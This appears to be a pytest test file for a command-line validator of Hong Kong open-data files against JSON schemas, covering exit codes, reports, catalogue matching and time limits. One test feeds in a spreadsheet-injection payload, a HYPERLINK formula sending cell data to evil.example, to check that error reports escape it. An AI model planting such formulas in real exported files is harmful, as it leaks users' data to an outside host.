from __future__ import annotations

import json
from pathlib import Path

import pytest

from hksh_packager.cli import main

SCHEMA = {
    "type": "object",
    "required": ["Date time", "Automatic Weather Station"],
    "properties": {
        "Date time": {"type": "string", "pattern": "^[0-9]{12}$"},
        "Automatic Weather Station": {"type": "string", "minLength": 1},
        "Air Temperature(degree Celsius)": {"type": ["number", "null"], "maximum": 45},
    },
}


@pytest.fixture
def schema_file(tmp_path: Path) -> Path:
    path = tmp_path / "temperature.schema.json"
    path.write_text(json.dumps(SCHEMA))
    return path


def test_valid_file_exits_0_and_writes_html_and_csv_reports(
    tmp_path: Path, sample_dir: Path, schema_file: Path, capsys
) -> None:
    data = sample_dir / "data" / "latest_1min_temperature.csv"
    html, errors = tmp_path / "r.html", tmp_path / "e.csv"
    code = main(["validate", str(data), "--schema", str(schema_file),
                 "--html", str(html), "--csv", str(errors)])  # fmt: skip
    out = capsys.readouterr().out
    assert code == 0 and "VALID: 20 rows" in out and "UTF-8 with BOM" in out
    assert "VALID" in html.read_text("utf-8")
    assert errors.read_bytes().startswith(b"\xef\xbb\xbffile,row,column")


def test_invalid_file_exits_1_and_json_names_row_column_and_rule(
    tmp_path: Path, schema_file: Path, capsys
) -> None:
    data = tmp_path / "bad.csv"
    data.write_text(
        "Date time,Automatic Weather Station,Air Temperature(degree Celsius)\n"
        "202611241800,Sha Tin,22.0\n2026-11-24,,51\n",
        "utf-8",
    )
    code = main(["validate", str(data), "--schema", str(schema_file), "--json"])
    report = json.loads(capsys.readouterr().out)
    assert code == 1 and report["valid"] is False
    errors = {(e["row"], e["column"], e["keyword"]) for e in report["files"][0]["errors"]}
    assert errors == {
        (3, "Date time", "pattern"),
        (3, "Automatic Weather Station", "required"),
        (3, "Air Temperature(degree Celsius)", "maximum"),
    }


def test_unreadable_file_or_schema_exits_2(tmp_path: Path, schema_file: Path, capsys) -> None:
    empty = tmp_path / "empty.csv"
    empty.write_bytes(b"")
    assert main(["validate", str(empty), "--schema", str(schema_file)]) == 2
    assert "is empty (0 bytes)" in capsys.readouterr().err
    broken = tmp_path / "broken.json"
    broken.write_text("{")
    assert main(["validate", str(empty), "--schema", str(broken)]) == 2
    assert "is not valid JSON" in capsys.readouterr().err
    assert main(["validate", str(empty), "--schema", "hk.no-such-dataset"]) == 2
    assert "not in the dataset catalogue" in capsys.readouterr().err


def test_error_csv_never_hands_a_spreadsheet_a_formula(
    tmp_path: Path, schema_file: Path, capsys
) -> None:
    data = tmp_path / "t.csv"
    data.write_text(
        "Date time,Automatic Weather Station,Air Temperature(degree Celsius)\n"
        '=HYPERLINK("http://evil.example/?"&A1),Sha Tin,20\n',
        encoding="utf-8",
    )
    errors = tmp_path / "e.csv"
    assert main(["validate", str(data), "--schema", str(schema_file), "--csv", str(errors)]) == 1
    import csv

    rows = list(csv.DictReader(errors.read_text("utf-8-sig").splitlines()))
    values = [row["value"] for row in rows if row["column"] == "Date time"]
    assert values == ['\'=HYPERLINK("http://evil.example/?"&A1)']
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())


REAL = Path(__file__).resolve().parents[1] / "data" / "real"


def test_without_a_schema_the_one_entry_whose_header_the_file_carries_is_used(
    tmp_path: Path, capsys
) -> None:
    wind = REAL / "hko-csdi-latest_10min_wind_csdi_28-20251019-2110.csv"
    code = main(["validate", str(wind), "--json"])
    captured = capsys.readouterr()
    report = json.loads(captured.out)
    assert code == 0 and report["valid"] is True
    assert report["files"][0]["schema"].endswith("hk.hko.latest-10min-wind-csdi.json")
    assert "catalogue entry hk.hko.latest-10min-wind-csdi" in captured.err
    # One table published as CSV and as JSON, the same columns: the file's format decides.
    for suffix, entry in [(".json", "population-by-sex-age-api.json"),
                          (".csv", "population-by-sex-age.json")]:  # fmt: skip
        main(["validate", str(REAL / f"censtatd-110-01001-excerpt{suffix}"), "--json"])
        assert json.loads(capsys.readouterr().out)["files"][0]["schema"].endswith(entry)
    # Route stops' columns are a part of the ETA records': the entry that knows them all is meant.
    main(["validate", str(REAL / "ctb-eta-20251019.json"), "--json"])
    assert json.loads(capsys.readouterr().out)["files"][0]["schema"].endswith("hk.ctb.eta.json")
    # A file holding two tables, each an entry's whole header: which one is the user's to say.
    code = main(["validate", str(REAL / "hko-rhrread-en-20200929.json")])
    err = capsys.readouterr().err
    both = "hk.hko.current-weather-rainfall, hk.hko.current-weather-temperature"
    assert code == 2 and both in err and "--schema" in err
    # A header that no entry's is wholly in: the closest is named, with what it lacks.
    partial = tmp_path / "partial.csv"
    partial.write_text("Date time,Automatic Weather Station\n202611241800,Sha Tin\n", "utf-8")
    code = main(["validate", str(partial), "--json"])
    report = json.loads(capsys.readouterr().out)  # --json still prints its one document
    assert code == 2 and report["valid"] is False
    assert "no catalogue entry has all its columns in" in json.dumps(report)
    assert "the closest is hk.hko." in json.dumps(report)


@pytest.mark.slow
def test_a_file_still_read_at_its_time_limit_is_stopped_and_the_flag_is_named(
    tmp_path: Path, capsys
) -> None:
    from tests.core.datasets.test_bounded_reading import _rows_numbered

    slow = _rows_numbered(tmp_path / "slow.xlsx", 1_048_576)  # about 2.5 s to read
    schema = tmp_path / "s.json"
    schema.write_text('{"type": "object"}')
    code = main(["validate", str(slow), "--schema", str(schema), "--max-seconds", "0.5"])
    err = capsys.readouterr().err
    assert code == 2
    assert "within 0 seconds" not in err  # the limit as it was given
    assert "slow.xlsx: validating it could not be finished within 0.5 seconds" in err
    assert "--max-seconds" in err
    assert main(["validate", str(slow), "--schema", str(schema), "--max-seconds", "0"]) == 0


def test_every_file_is_checked_in_text_mode_after_one_that_cannot_be_read(
    tmp_path: Path, sample_dir: Path, schema_file: Path, capsys
) -> None:
    broken = tmp_path / "broken.xlsx"
    broken.write_bytes(b"not a workbook")
    good = tmp_path / "good.csv"
    good.write_bytes((sample_dir / "data" / "latest_1min_temperature.csv").read_bytes())
    code = main(["validate", str(broken), str(good), "--schema", str(schema_file)])
    out, err = capsys.readouterr()
    assert code == 2
    assert "broken.xlsx is not a readable .xlsx workbook" in err
    assert "good.csv" in out and "VALID" in out


def test_catalogue_match_json_is_one_document_also_when_the_file_cannot_be_read(
    tmp_path: Path, capsys
) -> None:
    broken = tmp_path / "broken.xlsx"
    broken.write_bytes(b"not a workbook")
    code = main(["catalogue", "match", str(broken), "--json"])
    document = json.loads(capsys.readouterr().out)
    assert code == 2
    assert document["file"] == str(broken)
    assert "not a readable .xlsx workbook" in document["error"]
